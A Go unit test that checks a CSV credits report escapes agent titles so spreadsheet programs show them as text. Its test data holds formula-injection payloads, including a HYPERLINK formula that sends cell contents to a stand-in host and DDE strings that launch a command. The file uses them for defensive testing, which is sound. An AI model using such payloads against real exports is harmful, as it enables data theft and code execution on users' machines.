package app_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/agentdesk/agentdesk/app/ledger"
	"github.com/agentdesk/agentdesk/storage"
)

// An agent's title and id come from the service: in the exported CSV they
// are text a spreadsheet program shows, never a formula it runs.
func TestCreditsExportKeepsAgentTitlesAsText(t *testing.T) {
	titles := []string{
		`=HYPERLINK("https://evil.example/?"&A1,"Open report")`,
		"+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
	}
	r := ledger.Report{Total: -1.5}
	for _, title := range titles {
		r.ByAgent = append(r.ByAgent, storage.AgentCredits{AgentID: "=1+1", AgentTitle: title, Calls: 1, Credits: -1.5})
	}
	var buf bytes.Buffer
	if err := r.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	read := csv.NewReader(&buf)
	read.FieldsPerRecord = -1 // sections of their own widths
	rows, err := read.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for _, row := range rows {
		cells = append(cells, row...)
	}
	for _, c := range cells {
		if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) || strings.HasPrefix(c, "-") && c != "-1.5" {
			t.Errorf("the CSV holds %q, which a spreadsheet program would run", c)
		}
	}
	for _, title := range titles {
		if !strings.Contains(strings.Join(cells, "\n"), "'"+title) {
			t.Errorf("the title %q is not kept as text", title)
		}
	}
	if !strings.Contains(strings.Join(cells, "\n"), "-1.5") {
		t.Error("a negative number is no longer a number")
	}
}
